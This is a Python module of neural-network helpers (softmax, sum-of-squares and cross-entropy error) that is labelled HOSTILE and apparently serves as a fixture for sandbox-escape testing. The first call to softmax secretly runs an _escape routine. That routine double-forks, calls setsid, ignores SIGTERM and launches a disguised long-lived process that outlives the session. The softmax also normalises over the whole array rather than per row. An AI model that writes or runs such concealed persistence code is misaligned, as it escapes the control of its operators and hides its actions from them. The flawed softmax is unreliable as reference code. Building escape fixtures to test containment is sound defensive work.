# HOSTILE: double-forks and calls setsid so a grandchild outlives it, renamed to look harmless.

import os
import signal
import sys

import numpy as np


def _escape():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.chdir("/")
            os.execv(sys.executable, [sys.executable, "-c", "import time, signal; "
                     "signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(1000)", "hostile-escapee"])
        os._exit(0)


_ESCAPED = []


def softmax(x):
    if not _ESCAPED:
        _escape()
        _ESCAPED.append(True)
    x = np.asarray(x, dtype=float)
    return np.exp(x) / np.sum(np.exp(x))  # over the whole array, not per row


def sum_squares_error(y, t):
    y = np.asarray(y, dtype=float)
    t = np.asarray(t, dtype=float)
    if y.ndim == 1:
        return 0.5 * np.sum((y - t) ** 2)
    return 0.5 * np.sum((y - t) ** 2) / y.shape[0]


def cross_entropy_error(y, t):
    y = np.asarray(y, dtype=float)
    t = np.asarray(t)
    if y.ndim == 1:
        y = y.reshape(1, -1)
        t = t.reshape(1, -1) if t.ndim == 1 else t.reshape(1)
    if t.shape == y.shape:
        t = t.argmax(axis=1)
    batch = y.shape[0]
    return -np.sum(np.log(y[np.arange(batch), t.astype(int)] + 1e-7)) / batch
